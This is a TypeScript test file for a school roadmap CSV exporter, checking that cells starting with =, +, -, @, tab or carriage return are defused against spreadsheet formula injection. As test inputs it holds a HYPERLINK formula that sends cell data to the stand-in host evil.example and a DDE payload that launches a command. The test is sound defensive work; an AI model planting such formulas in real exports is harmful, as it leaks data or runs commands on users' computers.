/**
 * Roadmap exports a curator opens on their own computer: the CSV cannot carry a formula into
 * Excel (OWASP «CSV Injection»: a cell beginning with =, +, -, @, tab or carriage return gets a
 * leading apostrophe), and is otherwise the file Russian Excel opens by double-click.
 */
import { describe, expect, it } from 'vitest';
import { roadmapCsv } from '../src/lib/exports.ts';
import type { RoadmapItem } from '../src/schemas/roadmaps.ts';

/** RFC 4180 with `;` between cells and CRLF between records: the rows as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
const payload = (c: string) => `${c}HYPERLINK("http://evil.example/?d="&A1;"Нажмите")`;
const item = (over: Partial<RoadmapItem>): RoadmapItem => ({ title: 'Мероприятие', deadline: { text: '', kind: 'unspecified' }, responsible: [], ...over });

describe('roadmap CSV', () => {
  const roadmap = {
    title: 'Дорожная карта',
    period: { from: new Date('2026-09-01'), to: new Date('2027-06-30') },
    stages: [
      {
        title: "=cmd|' /C calc'!A0",
        items: [
          ...DANGEROUS.map((c, i) =>
            item({
              number: `${c}${i + 1}`,
              title: payload(c),
              description: `${c}1+1`,
              deadline: { text: `${c}сентябрь`, kind: 'month', from: new Date('2026-09-01'), to: new Date('2026-09-30') } as RoadmapItem['deadline'],
              responsible: [`${c}Директор`, 'Завуч'],
              result: `${c}SUM(A1:A9)`,
              documents: [`${c}Приказ`, 'Положение'],
            }),
          ),
          item({
            number: '3.1.1',
            title: 'Встреча наставников; «итоги» и "планы"',
            description: 'Обычный текст — с тире, -минусом в середине и =знаком',
            deadline: { text: 'до 30.04.2027', kind: 'until', to: new Date('2027-04-30') } as RoadmapItem['deadline'],
            responsible: ['Зам. директора по УВР'],
            result: '25 %',
            documents: ['Приказ № 12'],
          }),
        ],
      },
    ],
  };
  const csv = roadmapCsv(roadmap);
  const rows = parseCsv(csv.slice(1));

  it('keeps the format Excel in a Russian locale opens: BOM, semicolons, CRLF, a header row', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '').includes('\n')).toBe(false);
    expect(rows[0]).toEqual(['Раздел', '№', 'Мероприятие', 'Описание', 'Срок', 'Начало', 'Окончание', 'Ответственные', 'Результат', 'Документы', 'Статус']);
    expect(rows.length).toBe(1 + DANGEROUS.length + 1);
    for (const row of rows) expect(row.length).toBe(11);
  });

  it('no cell begins with =, +, -, @, tab or carriage return: each such cell gets a leading apostrophe', () => {
    for (const [r, row] of rows.entries()) {
      for (const [c, cell] of row.entries()) expect(DANGEROUS.includes(cell[0]), `строка ${r + 1}, столбец ${c + 1}: ${JSON.stringify(cell)}`).toBe(false);
    }
    DANGEROUS.forEach((c, i) => {
      const row = rows[1 + i];
      expect(row[0]).toBe(`'=cmd|' /C calc'!A0`);
      expect(row[1]).toBe(`'${c}${i + 1}`);
      expect(row[2]).toBe(`'${payload(c)}`);
      expect(row[3]).toBe(`'${c}1+1`);
      expect(row[4]).toBe(`'${c}сентябрь`);
      expect(row[7]).toBe(`'${c}Директор, Завуч`);
      expect(row[8]).toBe(`'${c}SUM(A1:A9)`);
      expect(row[9]).toBe(`'${c}Приказ, Положение`);
    });
  });

  it('leaves ordinary text, dates and numbers as they are', () => {
    const row = rows.at(-1)!;
    expect(row.slice(1, 10)).toEqual([
      '3.1.1',
      'Встреча наставников; «итоги» и "планы"',
      'Обычный текст — с тире, -минусом в середине и =знаком',
      'до 30.04.2027',
      '',
      '2027-04-30',
      'Зам. директора по УВР',
      '25 %',
      'Приказ № 12',
    ]);
    expect(rows[1][5]).toBe('2026-09-01');
    expect(rows[1][6]).toBe('2026-09-30');
    expect(rows[1][10]).toMatch(/^[а-яё]/);
  });
});
